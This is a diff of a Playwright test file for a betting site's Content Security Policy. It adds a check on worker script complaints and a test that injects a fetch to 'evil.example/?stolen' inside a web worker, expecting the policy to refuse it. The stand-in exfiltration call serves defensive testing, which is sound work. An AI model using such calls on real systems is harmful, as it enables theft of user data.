@@ -47,7 +47,7 @@ test("every page says what it may do, and no more", async ({ request, engine, st
   expect((await request.get("/", { headers: { origin: "https://evil.example" } })).status()).toBe(403);
 });
 
-test("a whole bet breaks no rule of the page, and the feed outlives two keepalives", async ({ player, page, dev }) => {
+test("a whole bet breaks no rule of the page or of a worker, and the feed outlives two keepalives", async ({ player, page, workers, dev }) => {
   // What the policy refuses would be a console error, which fails the test.
   await page.addInitScript(() => {
     window.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => console.error(`refused: ${violatedDirective} ${blockedURI}`));
@@ -67,6 +67,8 @@ test("a whole bet breaks no rule of the page, and the feed outlives two keepaliv
   await dev.changeOutcome({ ...live, odds: 7.77, active: true });
   await expect(page.locator("main")).toContainText("7.77");
   expect(eventsOf(await keptLog(page), "FeedLost")).toEqual([]);
+  expect(workers.started.filter((script) => /\/feed\.worker-/.test(script))).toHaveLength(1);
+  expect(workers.complaints).toEqual([]);
 });
 
 /** Runs inside a script that the policy lets in, as injected code would. */
@@ -114,6 +116,14 @@ test.describe("what got in", () => {
       "blob worker": "refused",
       "own fetch": "allowed",
     });
+  });
+
+  test("[X13] code in a worker can send nothing away", async ({ page, workers }) => {
+    await page.goto("/Sport/LiveList");
+    await expect.poll(() => page.workers().length).toBe(1);
+    await page.workers()[0]?.evaluate(() => fetch("https://evil.example/?stolen").catch(() => undefined));
+    await expect.poll(() => workers.complaints.join("\n")).toMatch(/^worker .*\/feed\.worker-.*: refused: connect-src https:\/\/evil\.example/m);
+    expect(workers.requests.join("\n")).not.toContain("evil.example");
   });
 
   test("[X7] nobody can frame the site", async ({ page, engine }) => {
